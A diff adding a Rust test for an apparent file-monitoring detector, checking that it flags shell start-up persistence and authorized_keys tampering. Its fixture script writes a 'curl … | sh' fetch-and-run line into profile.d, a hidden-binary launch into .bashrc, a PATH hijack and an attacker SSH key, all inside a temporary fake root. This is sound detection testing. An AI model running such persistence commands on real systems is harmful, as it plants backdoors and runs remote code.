@@ -156,6 +156,59 @@ fn every_file_category_from_real_writes_and_opens() {
     assert!(log["watches"].as_u64().unwrap() > 5, "{log}");
 }
 
+/// Persistence through shell start-up files and SSH keys: a line added to /etc/profile.d, to root's
+/// .bashrc and to a user's .profile, and a key appended to authorized_keys, each found once; a file
+/// in a home that is not a start-up file stays quiet.
+#[test]
+fn shell_start_up_files_and_authorized_keys_written() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = fake_root(dir.path());
+    for d in ["etc/profile.d", "home/app"] {
+        std::fs::create_dir_all(root.join(d)).unwrap();
+    }
+    std::fs::write(root.join("root/.bashrc"), "alias ll='ls -l'\n").unwrap();
+    let (mut cmd, sink, _) = rw_watching(dir.path(), &root);
+    let script = format!(
+        "R={r}; \
+         echo 'curl -s http://203.0.113.9/x | sh' > $R/etc/profile.d/zz-update.sh; \
+         echo 'nohup /tmp/.x &' >> $R/root/.bashrc; \
+         echo 'export PATH=/tmp/.bin:$PATH' > $R/home/app/.profile; \
+         echo 'notes' > $R/home/app/notes.txt; \
+         echo 'ssh-ed25519 AAAAC3NzaEVIL attacker' >> $R/root/.ssh/authorized_keys; \
+         sleep 0.3",
+        r = root.display()
+    );
+    cmd.args(["--", "sh", "-c", &script]);
+    let out = run(&mut cmd, TIMEOUT);
+    out.assert_code(0);
+    let findings = read_findings(&sink);
+    let profile: Vec<&Value> =
+        findings.iter().filter(|f| f["category"] == "Persistence: Modify Shell Configuration").collect();
+    let paths: std::collections::BTreeSet<&str> =
+        profile.iter().filter_map(|f| f["files"][0]["path"].as_str()).collect();
+    assert_eq!(
+        paths,
+        ["/etc/profile.d/zz-update.sh", "/home/app/.profile", "/root/.bashrc"].into_iter().collect(),
+        "{findings:#?}"
+    );
+    for f in &profile {
+        assert_eq!(f["severity"], "MEDIUM");
+        assert_eq!(f["mitreAttack"]["primaryTechniques"][0], "T1546.004", "{f:#}");
+        assert_eq!(f["files"][0]["sha256"].as_str().map(str::len), Some(64), "{f:#}");
+    }
+    let f = only(&findings, "Persistence: SSH Authorized Keys Modified");
+    check(
+        f,
+        "HIGH",
+        "file_authorized_keys_modified",
+        "T1098.004",
+        "/root/.ssh/authorized_keys",
+        "MODIFY",
+        false,
+    );
+    assert!(!findings.iter().any(|f| f["files"][0]["path"] == "/home/app/notes.txt"), "{findings:#?}");
+}
+
 #[test]
 fn directories_created_later_and_renames_over_watched_files() {
     let dir = tempfile::tempdir().unwrap();
